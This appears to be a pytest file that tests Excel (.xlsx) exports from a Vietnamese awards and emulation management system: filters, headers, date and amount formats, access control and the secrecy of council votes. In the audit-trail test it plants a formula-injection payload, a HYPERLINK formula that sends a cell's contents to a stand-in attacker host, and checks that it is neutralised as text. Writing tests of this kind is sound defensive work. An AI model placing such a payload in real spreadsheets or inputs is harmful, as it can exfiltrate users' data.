"""Every list and board downloads as .xlsx with the filters of its page (issue 17): the
link "Tải Excel (.xlsx)" on the page carries them, and the file read back with openpyxl
has Vietnamese headers, a frozen header row, dates as dates, amounts in VND as numbers
and texts that never run as formulas; a council session's results hold the tallies,
never a member's choice; a decision's awardee list adds up. On both databases."""

from __future__ import annotations

import html
import io
import re
from datetime import datetime

from openpyxl import load_workbook

from domain.vocabulary import Stage

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LINK = re.compile(r'href="([^"]+\.xlsx[^"]*)"')
WARD_MEMBERS = ("chutich", "phochutich", "uyvien.vhxh", "uyvien.mttq")


def sheet_of(response):
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == XLSX
    assert "attachment" in response.headers["content-disposition"]
    return load_workbook(io.BytesIO(response.content)).active


def xlsx_link(page) -> str:
    assert page.status_code == 200, page.text[:300]
    assert "Tải Excel (.xlsx)" in page.text or "(Excel)" in page.text
    links = [html.unescape(link) for link in LINK.findall(page.text)]
    assert links, "the page links its download"
    return links[0]


def header_row(sheet) -> tuple[int, list]:
    """The frozen header: the row just above ``freeze_panes``."""
    row = int(sheet.freeze_panes[1:]) - 1
    return row, [c.value for c in sheet[row]]


def cells(sheet) -> list:
    return [c.value for row in sheet.iter_rows() for c in row if c.value is not None]


async def test_the_nominations_list_downloads_with_its_filters(harness, people):
    hoa = (await harness.nominate())["id"]
    thuy = (await harness.nominate(person="Đặng Thị Thủy"))["id"]
    officer = people("canbo.vanphong")
    link = xlsx_link(await officer.get("/nominations", params={"q": "Thuy"}))
    assert link.startswith("/api/v1/nominations.xlsx?") and "q=Thuy" in link
    sheet = sheet_of(await officer.get(link))
    row, headers = header_row(sheet)
    assert row == 1 and headers[:3] == [
        "Mã đề nghị",
        "Đối tượng được đề nghị",
        "Danh hiệu, hình thức",
    ]
    assert all(c.font.bold for c in sheet[1])
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == [thuy], "only the filtered nomination"
    assert rows[0][1] == "Đặng Thị Thủy" and rows[0][3] == 2026  # the year a number
    created = sheet.cell(row=2, column=headers.index("Ngày lập") + 1)
    assert created.is_date and isinstance(created.value, datetime)
    assert created.number_format == "dd/mm/yyyy"
    # Unfiltered, the API twin lists both (and the seed's own, if any, this officer sees).
    everything = sheet_of(await harness.get("canbo.vanphong", "/api/v1/nominations.xlsx"))
    ids = [r[0] for r in everything.iter_rows(min_row=2, values_only=True)]
    assert {hoa, thuy} <= set(ids)
    # Another unit's officer does not see them.
    other = sheet_of(await harness.get("canbo.tdp1", "/api/v1/nominations.xlsx"))
    assert not {hoa, thuy} & {r[0] for r in other.iter_rows(min_row=2, values_only=True)}
    assert (await people(None).get("/api/v1/nominations.xlsx")).status_code == 401


async def test_the_audit_trail_downloads_with_formulas_kept_as_text(harness, people):
    nomination = (await harness.nominate(person="Đặng Thị Thủy"))["id"]
    note = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")'
    await harness.ok("thuongtruc", f"/api/v1/nominations/{nomination}/accept", {"note": note})
    auditor = people("kiemtra")
    link = xlsx_link(
        await auditor.get(
            "/audit", params={"nomination_id": str(nomination), "date_from": "01/01/2020"}
        )
    )
    assert "date_from=2020-01-01" in link and f"nomination_id={nomination}" in link
    sheet = sheet_of(await auditor.get(link))
    _, headers = header_row(sheet)
    assert headers[:4] == ["Mã sự kiện", "Thời điểm", "Mã đề nghị", "Đối tượng"]
    rows = list(sheet.iter_rows(min_row=2))
    assert {r[2].value for r in rows} == {nomination}, "only the filtered nomination"
    assert [r[5].value for r in rows] == ["Đơn vị nộp hồ sơ", "Tiếp nhận hồ sơ hợp lệ"]
    assert all(r[1].is_date for r in rows) and all(r[0].data_type == "n" for r in rows)
    reason = rows[1][11]
    assert reason.value == "'" + note and reason.data_type == "s"
    assert not [c for c in cells(sheet) if isinstance(c, str) and c.startswith("=")]
    # For auditors and administrators only.
    assert (await harness.get("thuongtruc", "/api/v1/audit.xlsx")).status_code == 403
    assert "xlsx" not in (await people("thuongtruc").get("/audit")).text


async def test_the_deadlines_board_downloads(harness, people):
    nomination = (await harness.nominate())["id"]
    standing = people("thuongtruc")
    link = xlsx_link(await standing.get("/deadlines", params={"within": "30", "level": "ward"}))
    assert "within_working_days=30" in link and "level=ward" in link
    sheet = sheet_of(await standing.get(link))
    row, headers = header_row(sheet)
    assert sheet["A1"].value == "Bảng theo dõi hạn xử lý hồ sơ" and row > 1
    assert headers[:2] == ["Tình trạng", "Mã đề nghị"]
    rows = list(sheet.iter_rows(min_row=row + 1))
    mine = [r for r in rows if r[1].value == nomination]
    assert mine and mine[0][0].value in ("Quá hạn", "Sắp đến hạn")
    due = mine[0][headers.index("Hạn xử lý")]
    assert due.is_date
    # The city's level only: not this ward's nomination.
    city = sheet_of(
        await harness.get(
            "thuongtruc", "/api/v1/boards/deadlines.xlsx?within_working_days=30&level=city"
        )
    )
    assert nomination not in [r[1] for r in city.iter_rows(min_row=row + 1, values_only=True)]


async def test_campaign_registrations_and_exemplars_download(harness, people):
    """Rows written as the registration and exemplar services write them (their workflows
    are tested in tests/campaigns): the downloads hold the year's and the step's only."""
    from sqlalchemy import select

    from domain.vocabulary import ExemplarStage, ExemplarSubjectKind
    from models import Campaign, Exemplar, Registration
    from thidua.seed import CAMPAIGN_CODE

    ids = harness.ids
    now = await harness.now()
    async with harness.factory() as db, db.begin():
        campaign = (
            await db.execute(select(Campaign.id).where(Campaign.code == CAMPAIGN_CODE))
        ).scalar_one()
        for year, pledge in ((2026, "=1+2 giao ước"), (2027, "Năm sau")):
            db.add(
                Registration(
                    registration_key=f"{campaign}:{year}:u{ids.units['tk-tdp-1']}:p0",
                    campaign_id=campaign,
                    year=year,
                    unit_id=ids.units["tk-tdp-1"],
                    person_id=None,
                    target_awards=["giay_khen"],
                    content_area_codes=[],
                    pledge=pledge,
                    registered_by_user_id=ids.users["canbo.tdp1"],
                    registered_at=now,
                )
            )
        for title, stage in (
            ("Mô hình đang bồi dưỡng", ExemplarStage.NURTURING),
            ("Mô hình mới phát hiện", ExemplarStage.DISCOVERED),
        ):
            db.add(
                Exemplar(
                    campaign_id=campaign,
                    title=title,
                    subject_kind=ExemplarSubjectKind.PRACTICE,
                    proposing_unit_id=ids.units["tk-tdp-1"],
                    proposed_by_user_id=ids.users["canbo.tdp1"],
                    evidence="Biên bản",
                    stage=stage,
                    workflow_id=f"exemplar-test-{stage.value}",
                )
            )
    person = people("canbo.tdp1")
    link = xlsx_link(
        await person.get(f"/campaigns/{campaign}/registrations", params={"year": "2026"})
    )
    assert link == f"/api/v1/campaigns/{campaign}/registrations.xlsx?year=2026"
    sheet = sheet_of(await person.get(link))
    row, headers = header_row(sheet)
    assert headers == [
        "Năm",
        "Đơn vị",
        "Cá nhân đăng ký",
        "Danh hiệu đăng ký",
        "Nội dung thi đua",
        "Giao ước thi đua",
        "Ngày đăng ký",
    ]
    assert sheet["A2"].value == "Năm 2026"
    rows = list(sheet.iter_rows(min_row=row + 1))
    assert [(r[0].value, r[5].value) for r in rows] == [(2026, "'=1+2 giao ước")]
    assert rows[0][6].is_date and rows[0][3].value.startswith("Giấy khen")

    link = xlsx_link(
        await person.get(f"/campaigns/{campaign}/exemplars", params={"stage": "nurturing"})
    )
    assert link == f"/api/v1/campaigns/{campaign}/exemplars.xlsx?stage=nurturing"
    sheet = sheet_of(await person.get(link))
    row, headers = header_row(sheet)
    assert headers[:3] == ["Mã", "Tên điển hình", "Loại"]
    rows = list(sheet.iter_rows(min_row=row + 1, values_only=True))
    assert [(r[1], r[6]) for r in rows] == [("Mô hình đang bồi dưỡng", "Bồi dưỡng")]
    missing = await harness.get("canbo.tdp1", "/api/v1/campaigns/987654321/exemplars.xlsx")
    assert missing.status_code == 404


async def test_session_results_and_the_awardee_list(harness, people):
    """The council's tallies per item without any member's choice, then the decision's
    awardee list for the finance office: each amount a number, and the total right."""
    hoa = (await harness.nominate())["id"]
    thuy = (await harness.nominate(person="Đặng Thị Thủy"))["id"]
    for nomination in (hoa, thuy):
        await harness.ok("thuongtruc", f"/api/v1/nominations/{nomination}/accept", {})
        await harness.wait_stage(nomination, Stage.AWAITING_COUNCIL)
    session = await harness.convene([hoa, thuy])
    choices = {"chutich": "disagree", "phochutich": "agree", "uyvien.vhxh": "agree"}
    for member in WARD_MEMBERS:
        await harness.vote(
            session["id"], member, {hoa: "agree", thuy: choices.get(member, "agree")}
        )
    await harness.close_session(session["id"])
    await harness.wait_stage(hoa, Stage.AWAITING_DECISION)

    chairman = people("chutich")
    page = await chairman.get(f"/council-sessions/{session['id']}")
    link = xlsx_link(page)
    assert link == f"/api/v1/council-sessions/{session['id']}/results.xlsx"
    sheet = sheet_of(await chairman.get(link))
    row, headers = header_row(sheet)
    assert headers[6:10] == ["Đồng ý", "Không đồng ý", "Không biểu quyết", "Kết quả"]
    items = {r[1]: r for r in sheet.iter_rows(min_row=row + 1, values_only=True)}
    assert items[hoa][6:10] == (4, 0, 0, "Thông qua")
    assert items[thuy][6:8] == (3, 1)
    # Nobody's choice, nor even who voted: no member's name is in the file.
    async with harness.factory() as db:
        from models import User

        names = {
            u.full_name
            for u in (await db.execute(__import__("sqlalchemy").select(User))).scalars()
            if u.username in WARD_MEMBERS
        }
    text = " ".join(str(c) for c in cells(sheet))
    assert names and not [n for n in names if n in text]
    # A unit officer does not follow the session: the id does not exist for them.
    refused = await harness.get("canbo.vanphong", link)
    absent = await harness.get("canbo.vanphong", "/api/v1/council-sessions/987654321/results.xlsx")
    assert refused.status_code == absent.status_code == 404
    assert refused.content == absent.content

    draft = await harness.draft_decision([hoa, thuy])
    signed = await harness.sign(draft["id"])
    decision_id = draft["id"]
    page = await chairman.get(f"/decisions/{decision_id}")
    assert 'id="awardees-xlsx"' in page.text
    link = f"/api/v1/decisions/{decision_id}/awardees.xlsx"
    assert f'href="{link}"' in page.text
    response = await chairman.get(link)
    sheet = sheet_of(response)
    row, headers = header_row(sheet)
    assert headers == [
        "STT",
        "Họ và tên / Tên tập thể",
        "Chức vụ, đơn vị",
        "Hình thức khen thưởng",
        "Hệ số mức lương cơ sở",
        "Số tiền thưởng (đồng)",
    ]
    async with harness.factory() as db:
        from models import Decision

        decision = await db.get(Decision, decision_id)
        number, issued_on = decision.number_text, decision.issued_on
    assert number and number in sheet["A1"].value
    assert issued_on.strftime("%d/%m/%Y") in sheet["A1"].value
    lines = list(sheet.iter_rows(min_row=row + 1))
    awardees, total = lines[:-1], lines[-1]
    assert {r[1].value for r in awardees} == {"Nguyễn Thị Hoa", "Đặng Thị Thủy"}
    amounts = [r[5] for r in awardees]
    assert all(a.data_type == "n" and a.number_format == "#,##0" for a in amounts)
    assert all(isinstance(a.value, int) and a.value > 0 for a in amounts)
    assert total[1].value == "Tổng cộng" and total[5].value == sum(a.value for a in amounts)
    assert signed["document_id"]
    # The published decision's list is the public's, as the decision.
    assert (await people(None).get(link)).status_code == 200
